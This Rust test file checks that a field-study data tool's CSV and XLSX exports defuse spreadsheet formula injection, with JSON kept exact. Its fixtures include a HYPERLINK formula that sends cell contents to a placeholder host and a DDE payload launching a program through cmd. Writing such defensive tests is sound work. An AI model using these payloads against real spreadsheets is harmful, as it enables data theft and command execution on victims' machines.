//! Text a spreadsheet would run as a formula (`= + - @`, a tab, a carriage return first) is
//! neutralised with a leading `'` in CSV and XLSX exports, anonymised or not; numbers are
//! left alone; JSON stays exact. Read back with the csv crate and calamine.

use std::collections::BTreeMap;
use std::path::Path;

use calamine::{open_workbook, Data, Reader, Xlsx};
use serde_json::{json, Value};
use terrain_core::export::{self, ExportOptions, Format};
use terrain_core::read::SessionFilter;
use terrain_core::{Entity, Store};

use crate::support::stats_fixture::{create, SADIOLA};

/// (table, column, text typed on a laptop).
const TYPED: [(&str, &str, &str); 8] = [
    (
        "participant",
        "name",
        "=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")",
    ),
    ("participant", "phone", "+22370000001"),
    ("participant", "institution", "-2+3+cmd|' /C calc'!A0"),
    ("participant", "role", "@SUM(1+1)"),
    ("finding", "text", "\t=1+1"),
    ("finding", "theme", "\r=2+2"),
    ("session", "place_name", "=Village de Fanta"),
    ("session", "facilitators", "=Awa; Moussa"),
];

struct Typed {
    store: Store,
    study: String,
    reviewed: Vec<(Entity, String)>,
}

fn typed(dir: &Path) -> Typed {
    let mut store = Store::open_in_dir(dir).expect("open");
    let study = create(&mut store, Entity::Study, json!({"title": "Étude"}));
    let village = create(
        &mut store,
        Entity::Place,
        json!({"name": TYPED[6].2, "kind": "village", "parent_id": SADIOLA}),
    );
    let session = create(
        &mut store,
        Entity::Session,
        json!({"study_id": study, "session_type": "focus_group", "date": "2025-01-10",
               "place_id": village, "facilitators": ["=Awa", "Moussa"], "consent_quotes": true,
               "notes": "-notes relues"}),
    );
    for i in 0..3 {
        let mut p = json!({"session_id": session, "sex": "female", "age": 30 + i});
        if i == 0 {
            for (_, col, text) in &TYPED[..4] {
                p[*col] = json!(text);
            }
        }
        create(&mut store, Entity::Participant, p);
    }
    let finding = create(
        &mut store,
        Entity::Finding,
        json!({"session_id": session, "text": TYPED[4].2, "theme": TYPED[5].2}),
    );
    let reco = create(
        &mut store,
        Entity::Recommendation,
        json!({"study_id": study, "text": "a=b, not a formula", "theme": "+theme"}),
    );
    let reviewed = vec![
        (Entity::Session, session),
        (Entity::Finding, finding),
        (Entity::Recommendation, reco),
    ];
    for (e, id) in &reviewed {
        export::set_reviewed(&mut store, *e, id, true).expect("review");
    }
    Typed {
        store,
        study,
        reviewed,
    }
}

fn options(study: &str, anonymised: bool) -> ExportOptions {
    ExportOptions {
        filter: SessionFilter {
            study_id: Some(study.to_string()),
            ..Default::default()
        },
        anonymised,
        min_cell: 3,
        ..Default::default()
    }
}

type Rows = Vec<BTreeMap<String, String>>;

fn csv_rows(path: &Path) -> Rows {
    let bytes = std::fs::read(path).expect("read");
    let mut r = csv::ReaderBuilder::new().from_reader(&bytes[3..]);
    let headers = r.headers().expect("headers").clone();
    r.records()
        .map(|rec| {
            let rec = rec.expect("record");
            headers
                .iter()
                .map(str::to_string)
                .zip(rec.iter().map(str::to_string))
                .collect()
        })
        .collect()
}

/// A sheet's rows as text, and the cells of column `numbers` as read (to check their type).
/// A carriage return is stored as `_x000D_` (the XLSX escape, which Excel reads back as one
/// and calamine leaves as is).
fn xlsx_rows(path: &Path, sheet: &str, numbers: &str) -> (Rows, Vec<Data>) {
    let mut book: Xlsx<_> = open_workbook(path).expect("xlsx");
    let range = book.worksheet_range(sheet).expect("sheet");
    let mut rows = range.rows();
    let headers: Vec<String> = rows
        .next()
        .expect("header")
        .iter()
        .map(|c| c.to_string())
        .collect();
    let mut out = Vec::new();
    let mut typed = Vec::new();
    for row in rows {
        out.push(
            headers
                .iter()
                .cloned()
                .zip(row.iter().map(|c| c.to_string().replace("_x000D_", "\r")))
                .collect(),
        );
        if let Some(i) = headers.iter().position(|h| h == numbers) {
            typed.push(row[i].clone());
        }
    }
    (out, typed)
}

fn has(rows: &Rows, col: &str, value: &str) -> bool {
    rows.iter()
        .any(|r| r.get(col).map(String::as_str) == Some(value))
}

#[test]
fn formula_cells_get_a_quote_in_csv_and_xlsx_and_stay_exact_in_json() {
    let dir = tempfile::tempdir().expect("tmp");
    let mut t = typed(&dir.path().join("db"));
    let csv_dir = dir.path().join("csv");
    let xlsx = dir.path().join("out.xlsx");
    let json_path = dir.path().join("out.json");
    let o = options(&t.study, false);
    export::run(&mut t.store, Format::Csv, &csv_dir, &o, &mut |_| {}).expect("csv");
    export::run(&mut t.store, Format::Xlsx, &xlsx, &o, &mut |_| {}).expect("xlsx");
    export::run(&mut t.store, Format::Json, &json_path, &o, &mut |_| {}).expect("json");
    let json: Value =
        serde_json::from_slice(&std::fs::read(&json_path).expect("read")).expect("json");
    for (table, col, text) in TYPED {
        let quoted = format!("'{text}");
        let csv = csv_rows(&csv_dir.join(format!("{table}.csv")));
        assert!(has(&csv, col, &quoted), "CSV {table}.{col}: {csv:?}");
        let (sheet, _) = xlsx_rows(&xlsx, table, "women");
        assert!(has(&sheet, col, &quoted), "XLSX {table}.{col}: {sheet:?}");
        let exact = json["tables"][table]
            .as_array()
            .expect("table")
            .iter()
            .any(|r| match &r[col] {
                Value::Array(items) => items.first() == Some(&json!("=Awa")),
                v => v == &json!(text),
            });
        assert!(exact, "JSON {table}.{col} is not the text typed");
    }
    // Text that only contains a sign, and numbers, are left alone: counts stay numbers.
    let recos = csv_rows(&csv_dir.join("recommendation.csv"));
    assert!(has(&recos, "text", "a=b, not a formula"));
    let sessions = csv_rows(&csv_dir.join("session.csv"));
    assert!(has(&sessions, "women", "3"));
    let (_, women) = xlsx_rows(&xlsx, "session", "women");
    assert_eq!(women, vec![Data::Float(3.0)]);
    let (people, ages) = xlsx_rows(&xlsx, "participant", "age");
    assert_eq!(people.len(), 3);
    assert!(ages.iter().all(|a| matches!(a, Data::Float(_))), "{ages:?}");
}

#[test]
fn anonymised_exports_neutralise_reviewed_text_too() {
    let dir = tempfile::tempdir().expect("tmp");
    let mut t = typed(&dir.path().join("db"));
    assert_eq!(t.reviewed.len(), 3);
    let csv_dir = dir.path().join("anon");
    let xlsx = dir.path().join("anon.xlsx");
    let o = options(&t.study, true);
    export::run(&mut t.store, Format::Csv, &csv_dir, &o, &mut |_| {}).expect("csv");
    export::run(&mut t.store, Format::Xlsx, &xlsx, &o, &mut |_| {}).expect("xlsx");
    for (table, col, quoted) in [
        ("session", "notes", "'-notes relues"),
        ("finding", "text", "'\t=1+1"),
        ("finding", "theme", "'\r=2+2"),
        ("recommendation", "theme", "'+theme"),
    ] {
        let csv = csv_rows(&csv_dir.join(format!("{table}.csv")));
        assert!(has(&csv, col, quoted), "CSV {table}.{col}: {csv:?}");
        let (sheet, _) = xlsx_rows(&xlsx, table, "");
        assert!(has(&sheet, col, quoted), "XLSX {table}.{col}: {sheet:?}");
    }
}
